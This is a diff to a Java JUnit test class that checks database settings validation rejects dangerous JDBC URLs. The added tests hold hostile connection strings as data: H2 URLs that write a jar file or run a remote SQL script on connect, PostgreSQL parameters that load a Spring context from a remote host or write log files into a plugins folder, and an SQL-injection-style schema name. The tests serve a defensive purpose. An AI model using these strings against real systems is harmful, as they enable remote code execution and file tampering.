@@ -7,6 +7,7 @@ import static org.junit.jupiter.api.Assertions.assertTrue;
 
 import java.lang.annotation.Annotation;
 import java.nio.file.Path;
+import java.util.List;
 import java.util.Map;
 import java.util.Optional;
 import org.junit.jupiter.api.Test;
@@ -55,14 +56,14 @@ class DatabaseSettingsTest {
     @Test
     void descriptionsForTheLogNeverShowThePassword() {
         DatabaseSettings settings = DatabaseSettings.resolve(
-                config("jdbc:postgresql://app:urlsecret@db/lanvan?user=app&password=querysecret&ssl=true", "app", "s3cret", ""),
+                config("jdbc:postgresql://db/lanvan?user=app&password=querysecret&ssl=true", "app", "s3cret", ""),
                 Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK);
 
         String described = settings.describe() + " " + settings;
         assertFalse(described.contains("s3cret"), described);
-        assertFalse(described.contains("urlsecret"), described);
         assertFalse(described.contains("querysecret"), described);
         assertTrue(described.contains("ssl=true"), described);
+        assertFalse(DatabaseSettings.redact("jdbc:postgresql://app:urlsecret@db/lanvan").contains("urlsecret"));
     }
 
     @Test
@@ -72,8 +73,76 @@ class DatabaseSettingsTest {
         IllegalArgumentException schema = assertThrows(IllegalArgumentException.class, () -> DatabaseSettings.resolve(
                 config("", "", "", "Audit; drop"), Map.<String, String>of()::get, Map.<String, String>of()::get, FALLBACK));
 
-        assertTrue(url.getMessage().startsWith("jdbcUrl must start with"), url.getMessage());
+        assertTrue(url.getMessage().startsWith("jdbcUrl"), url.getMessage());
         assertTrue(schema.getMessage().startsWith("schema must be"), schema.getMessage());
+    }
+
+    @Test
+    void anH2UrlThatRunsSqlOnConnectIsRefusedNamingTheSetting() {
+        String attack = "jdbc:h2:mem:x;INIT=CALL FILE_WRITE(X'504b03', '/srv/lanvan/plugins/x.jar')";
+
+        IllegalArgumentException fromConfig = assertThrows(IllegalArgumentException.class,
+                () -> resolveWithDataDir(config(attack, "", "", ""), Map.of()));
+        IllegalArgumentException fromLauncher = assertThrows(IllegalArgumentException.class,
+                () -> resolveWithDataDir(config("", "", "", ""), Map.of("lanvan.db.url", attack)));
+
+        assertTrue(fromConfig.getMessage().startsWith("jdbcUrl"), fromConfig.getMessage());
+        assertTrue(fromLauncher.getMessage().startsWith("LANVAN_DB_URL"), fromLauncher.getMessage());
+    }
+
+    @Test
+    void h2FilesOutsideTheDataFolderOrWithOptionsAreRefused() {
+        for (String url : List.of("jdbc:h2:file:/srv/lanvan/data/db/lanvan;INIT=RUNSCRIPT FROM 'http://x/y.sql'",
+                "jdbc:h2:file:/srv/lanvan/data/db/lanvan;AUTO_SERVER=TRUE",
+                "jdbc:h2:file:/srv/lanvan/data/../plugins/x", "jdbc:h2:file:/tmp/lanvan", "jdbc:h2:file:~/lanvan",
+                "jdbc:h2:file:db/lanvan", "jdbc:h2:mem:lanvan", "jdbc:h2:tcp://10.0.0.1/lanvan",
+                "jdbc:h2:/srv/lanvan/data/db/lanvan", "jdbc:h2:file:nio:/srv/lanvan/data/db/lanvan",
+                "jdbc:h2:zip:/srv/lanvan/data/db.zip!/lanvan")) {
+            assertThrows(IllegalArgumentException.class, () -> resolveWithDataDir(config(url, "", "", ""), Map.of()), url);
+        }
+    }
+
+    @Test
+    void anH2FileUnderTheDataFolderIsAccepted() {
+        DatabaseSettings settings = resolveWithDataDir(config("jdbc:h2:file:/srv/lanvan/data/db/other", "sa", "", ""), Map.of());
+
+        assertEquals("jdbc:h2:file:/srv/lanvan/data/db/other", settings.jdbcUrl());
+    }
+
+    @Test
+    void postgresqlParametersThatLoadClassesOrWriteFilesAreRefused() {
+        for (String url : List.of("jdbc:postgresql://db/lanvan?socketFactory=org.springframework.context.support.ClassPathXmlApplicationContext"
+                        + "&socketFactoryArg=http://10.0.0.1/x.xml",
+                "jdbc:postgresql://db/lanvan?sslfactory=x.Y", "jdbc:postgresql://db/lanvan?loggerLevel=TRACE&loggerFile=/srv/lanvan/plugins/x.jar",
+                "jdbc:postgresql://db/lanvan?authenticationPluginClassName=x.Y", "jdbc:postgresql://db/lanvan?sslhostnameverifier=x.Y",
+                "jdbc:postgresql://db/lanvan?sslpasswordcallback=x.Y", "jdbc:postgresql://db/lanvan?sslmode=require&sslmode=disable",
+                "jdbc:postgresql://db/lanvan?sslmode=sometimes", "jdbc:postgresql://db/lanvan?sslrootcert=/etc/shadow",
+                "jdbc:postgresql://db/lanvan?connectTimeout=forever", "jdbc:postgresql://a,b/lanvan",
+                "jdbc:postgresql://db:99999/lanvan", "jdbc:postgresql:lanvan", "jdbc:postgresql://db/lan%20van",
+                "jdbc:postgresql://db/lanvan;sslmode=require", "jdbc:postgresql://db/lanvan?options=-c%20log_statement=all",
+                "jdbc:pgsql://db/lanvan", "jdbc:mysql://db/lanvan")) {
+            IllegalArgumentException refused = assertThrows(IllegalArgumentException.class,
+                    () -> resolveWithDataDir(config(url, "", "", ""), Map.of()), url);
+            assertTrue(refused.getMessage().startsWith("jdbcUrl"), refused.getMessage());
+        }
+    }
+
+    @Test
+    void postgresqlWithAHostAPortADatabaseAndAllowedParametersIsAccepted() {
+        for (String url : List.of("jdbc:postgresql://db.example.internal:5432/lanvan",
+                "jdbc:postgresql://127.0.0.1/test", "jdbc:postgresql://[::1]:5432/test",
+                "jdbc:postgresql://db/lanvan?sslmode=verify-full&sslrootcert=/srv/lanvan/etc/db-ca.crt"
+                        + "&connectTimeout=10&socketTimeout=60&ApplicationName=LANVan-2&tcpKeepAlive=true",
+                "jdbc:postgresql://db/lanvan?sslmode=verify-ca&sslrootcert=/srv/lanvan/data/tls/db-ca.crt")) {
+            assertEquals(url, resolveWithDataDir(config(url, "", "", ""), Map.of()).jdbcUrl());
+        }
+    }
+
+    private static DatabaseSettings resolveWithDataDir(PersistenceConfig config, Map<String, String> launcher) {
+        Map<String, String> properties = new java.util.HashMap<>(launcher);
+        properties.put("lanvan.data", "/srv/lanvan/data");
+        properties.put("lanvan.home", "/srv/lanvan");
+        return DatabaseSettings.resolve(config, properties::get, Map.<String, String>of()::get, FALLBACK);
     }
 
     private static PersistenceConfig config(String jdbcUrl, String user, String password, String schema) {
